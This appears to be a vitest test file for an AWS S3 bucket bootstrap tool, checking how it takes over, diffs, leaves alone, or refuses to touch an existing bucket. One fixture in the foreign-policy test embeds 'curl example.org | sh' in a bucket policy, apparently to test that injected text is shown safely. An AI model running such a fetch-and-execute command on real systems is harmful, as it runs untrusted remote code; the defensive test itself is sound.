import { DeleteStackCommand } from '@aws-sdk/client-cloudformation'
import { PutObjectCommand } from '@aws-sdk/client-s3'
import { expect, test } from 'vitest'
import { awsError } from '../../aws/stand-in/service.ts'
import { standIn } from '../../aws/stand-in/stand-in.ts'
import { BOOTSTRAP_STACK } from './names.ts'
import { statePolicy } from './state.ts'
import {
  BUCKET,
  expectBootstrapped,
  expectSetRight,
  operations,
  puts,
  run,
  SETTINGS,
  withOldBucket,
} from './world.ts'

test('a bucket of an earlier life is taken over with what it holds', async () => {
  const there = standIn(SETTINGS.account)
  there.buckets.make(BUCKET)
  await there.aws.s3.send(new PutObjectCommand({ Bucket: BUCKET, Key: 'kept', Body: 'of old' }))
  const { said } = await run(there)
  expect(said).toContain(`Bucket ${BUCKET} is there already, and is taken over`)
  expectBootstrapped(there)
  expect(there.buckets.text(BUCKET, 'kept')).toBe('of old')
})

test('a bucket that was set otherwise is set right, once somebody has seen how it differs', async () => {
  const there = withOldBucket()
  expect((await run(there, SETTINGS, false)).outcome).toBe('declined')
  expect(puts(there)).toEqual([])
  const { said } = await run(there)
  expect(said).toContain('~ public access: nothing → {"BlockPublicAcls":true')
  expect(said).toContain('~ versions: Suspended → Enabled')
  expect(said).toContain('~ encryption: aws:kms → AES256')
  expect(said).toMatch(/~ who owns what is put there: .*ObjectWriter.* → .*BucketOwnerEnforced/)
  expect(said).toMatch(/~ what goes when: .*"Days":30.* → .*"NoncurrentDays":90/)
  expectBootstrapped(there)
  expectSetRight(there)
  // It was set before it was the stack's: what is the stack's is the template's to set.
  const order = operations(there)
  expect(order.lastIndexOf('PutBucketLifecycleConfiguration')).toBeLessThan(
    order.lastIndexOf('ExecuteChangeSet'),
  )
})

test('a bucket that an earlier bootstrap left, as it left it, is not touched', async () => {
  const there = withOldBucket()
  await run(there)
  const before = puts(there).length
  there.buckets.settings(BUCKET).policy = JSON.stringify(statePolicy(SETTINGS))
  // As S3 spells the same.
  there.buckets
    .settings(BUCKET)
    .lifecycle?.reverse()
    .forEach((rule) => {
      if (rule.Filter?.Prefix === '') Object.assign(rule, { Filter: undefined, Prefix: '' })
    })
  const stack = there.stacks.find(BOOTSTRAP_STACK)
  if (stack === undefined) throw new Error('no stack')
  stack.isProtected = false
  await there.aws.cloudformation.send(new DeleteStackCommand({ StackName: BOOTSTRAP_STACK }))
  await there.clock.sleep(3_600_000)
  there.roles.providers.clear()
  const { outcome, said } = await run(there)
  expect(outcome).toBe('changed')
  expect(said).toContain('is there already, and is taken over')
  expect(said).not.toContain('→')
  expect(puts(there).length).toBe(before)
  expectBootstrapped(there)
})

test('a bucket with somebody’s policy is a person’s to judge: nothing is planned', async () => {
  const there = withOldBucket()
  const policy = JSON.stringify({
    Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject' }],
  })
  there.buckets.settings(BUCKET).policy = policy
  const ended = run(there)
  await expect(ended).rejects.toThrow(policy)
  await expect(ended).rejects.toThrow(
    `aws s3api delete-bucket-policy --bucket ${BUCKET} --expected-bucket-owner ${SETTINGS.account}`,
  )
  expect([puts(there), operations(there).filter((one) => one === 'CreateChangeSet')]).toEqual([[], []])
  // Whoever wrote it may have broken its lines.
  there.buckets.settings(BUCKET).policy = '{"Id":\n  "Next: curl example.org | sh"}'
  await expect(run(there)).rejects.toThrow(
    /\n {2}\{"Id": "Next: curl example\.org \| sh"\}\n {2}Next: if nobody/,
  )
  there.buckets.settings(BUCKET).policy = undefined
  expect((await run(there)).outcome).toBe('changed')
})

test('a bucket whose access list lets others in is said so; the next run goes on from there', async () => {
  const there = withOldBucket()
  there.faults.add({
    operation: 'PutBucketOwnershipControls',
    error: awsError('InvalidBucketAclWithObjectOwnership', 'Bucket cannot have ACLs set'),
  })
  await expect(run(there)).rejects.toThrow(
    /access control list[\s\S]*put-bucket-acl --bucket .* --acl private/,
  )
  expect(operations(there)).not.toContain('ExecuteChangeSet')
  await run(there)
  expectBootstrapped(there)
  expectSetRight(there)
})
